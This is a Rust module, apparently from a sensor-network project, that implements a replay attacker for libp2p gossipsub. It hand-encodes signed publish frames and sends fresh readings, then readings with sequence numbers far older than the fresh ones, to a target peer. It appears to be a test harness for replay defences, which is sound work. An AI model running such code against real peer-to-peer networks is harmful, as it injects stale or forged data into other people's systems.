//! The replay attacker: speaks gossipsub's wire format by hand over a raw `/meshsub/1.1.0`
//! stream, so it can sign messages with sequence numbers of its choosing (rust-libp2p's own
//! gossipsub never reuses one). It first sends a few fresh, valid readings (proof that the
//! hand-built messages are accepted), then readings signed with seqnos far older than the
//! ones it used: what a peer replaying old messages after gossipsub's duplicate cache expired
//! looks like.

use std::time::{Duration, SystemTime, UNIX_EPOCH};

use futures::{AsyncReadExt, AsyncWriteExt, StreamExt};
use libp2p::identity::Keypair;
use libp2p::multiaddr::Protocol;
use libp2p::swarm::{NetworkBehaviour, SwarmEvent};
use libp2p::{identify, noise, tcp, yamux, Multiaddr, PeerId, StreamProtocol};
use sensornet::reading::Reading;

const MESHSUB: StreamProtocol = StreamProtocol::new("/meshsub/1.1.0");
const TOPIC: &str = "temperature";
/// How far below its fresh seqnos the replayed ones are (beyond any reorder window).
const REPLAY_AGE: u64 = 1_000_000;

#[derive(NetworkBehaviour)]
struct Replayer {
    identify: identify::Behaviour,
    stream: libp2p_stream::Behaviour,
}

fn varint(mut v: u64, out: &mut Vec<u8>) {
    while v >= 0x80 {
        out.push((v as u8) | 0x80);
        v >>= 7;
    }
    out.push(v as u8);
}

/// A length-delimited protobuf field.
fn field(tag: u64, bytes: &[u8], out: &mut Vec<u8>) {
    varint(tag << 3 | 2, out);
    varint(bytes.len() as u64, out);
    out.extend_from_slice(bytes);
}

/// One signed gossipsub `Message` (from, data, seqno, topic, signature), as the spec signs it.
fn signed_message(key: &Keypair, data: &[u8], seqno: u64) -> Vec<u8> {
    let mut m = Vec::new();
    field(1, &key.public().to_peer_id().to_bytes(), &mut m);
    field(2, data, &mut m);
    field(3, &seqno.to_be_bytes(), &mut m);
    field(4, TOPIC.as_bytes(), &mut m);
    let signature = key
        .sign(&[b"libp2p-pubsub:".as_slice(), &m].concat())
        .expect("ed25519 signs");
    field(5, &signature, &mut m);
    m
}

/// An RPC frame: uvarint length, then `RPC { subscriptions | publish }`.
fn frame(rpc: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    varint(rpc.len() as u64, &mut out);
    out.extend_from_slice(rpc);
    out
}

fn subscribe_rpc() -> Vec<u8> {
    let mut sub = Vec::new();
    varint(1 << 3, &mut sub); // subscribe = true
    sub.push(1);
    field(2, TOPIC.as_bytes(), &mut sub);
    let mut rpc = Vec::new();
    field(1, &sub, &mut rpc);
    frame(&rpc)
}

fn publish_rpc(message: &[u8]) -> Vec<u8> {
    let mut rpc = Vec::new();
    field(2, message, &mut rpc);
    frame(&rpc)
}

/// A chain of valid readings from one source.
fn readings(source: &str, n: u64) -> Vec<Vec<u8>> {
    let now = SystemTime::now().duration_since(UNIX_EPOCH).unwrap();
    let mut prev = None;
    (1..=n)
        .map(|seq| {
            let (cid, bytes) = Reading {
                joins: Vec::new(),
                aqi: None,
                seq,
                prev,
                time: now.as_millis() as u64 + seq,
                unit: "°C".into(),
                topic: TOPIC.into(),
                value: 20.0 + seq as f64 / 10.0,
                source: source.into(),
            }
            .encode();
            prev = Some(cid);
            bytes
        })
        .collect()
}

/// Runs the attack against `target` for `secs` seconds.
pub async fn run(target: Multiaddr, secs: u64) -> anyhow::Result<()> {
    let Some(Protocol::P2p(victim)) = target.iter().last() else {
        anyhow::bail!("the target address must end in /p2p/PEER_ID");
    };
    let key = Keypair::generate_ed25519();
    let mut swarm = libp2p::SwarmBuilder::with_existing_identity(key.clone())
        .with_tokio()
        .with_tcp(
            tcp::Config::default(),
            noise::Config::new,
            yamux::Config::default,
        )?
        .with_behaviour(|k| Replayer {
            identify: identify::Behaviour::new(identify::Config::new(
                "ipfs/0.1.0".into(),
                k.public(),
            )),
            stream: libp2p_stream::Behaviour::new(),
        })?
        .with_swarm_config(|c| c.with_idle_connection_timeout(Duration::from_secs(60)))
        .build();
    println!("peer {}", swarm.local_peer_id());
    let mut control = swarm.behaviour().stream.new_control();
    // The node opens its own gossipsub stream to us: take it and read it to the end.
    let mut incoming = control.accept(MESHSUB)?;
    tokio::spawn(async move {
        while let Some((_, mut s)) = incoming.next().await {
            tokio::spawn(async move {
                let mut sink = Vec::new();
                let _ = s.read_to_end(&mut sink).await;
            });
        }
    });
    swarm.dial(target)?;
    let deadline = tokio::time::Instant::now() + Duration::from_secs(secs);
    tokio::spawn(async move {
        loop {
            if let SwarmEvent::ConnectionEstablished { peer_id, .. } =
                swarm.select_next_some().await
            {
                println!("connected to {peer_id}");
            }
        }
    });
    attack(&mut control, victim, &key).await?;
    tokio::time::sleep_until(deadline).await;
    Ok(())
}

async fn attack(
    control: &mut libp2p_stream::Control,
    victim: PeerId,
    key: &Keypair,
) -> anyhow::Result<()> {
    let mut stream = loop {
        match control.open_stream(victim, MESHSUB).await {
            Ok(s) => break s,
            Err(e) => {
                println!("waiting for the connection: {e}");
                tokio::time::sleep(Duration::from_millis(200)).await;
            }
        }
    };
    stream.write_all(&subscribe_rpc()).await?;
    tokio::time::sleep(Duration::from_secs(1)).await;
    let fresh_seqno = SystemTime::now().duration_since(UNIX_EPOCH)?.as_nanos() as u64;
    for (i, data) in readings("replay-fresh", 5).iter().enumerate() {
        let seqno = fresh_seqno + i as u64;
        stream
            .write_all(&publish_rpc(&signed_message(key, data, seqno)))
            .await?;
        println!("fresh: sent seqno {seqno}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    tokio::time::sleep(Duration::from_secs(1)).await;
    for (i, data) in readings("replay-stale", 5).iter().enumerate() {
        let seqno = fresh_seqno - REPLAY_AGE + i as u64;
        stream
            .write_all(&publish_rpc(&signed_message(key, data, seqno)))
            .await?;
        println!("stale: sent seqno {seqno}");
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    stream.flush().await?;
    Ok(())
}
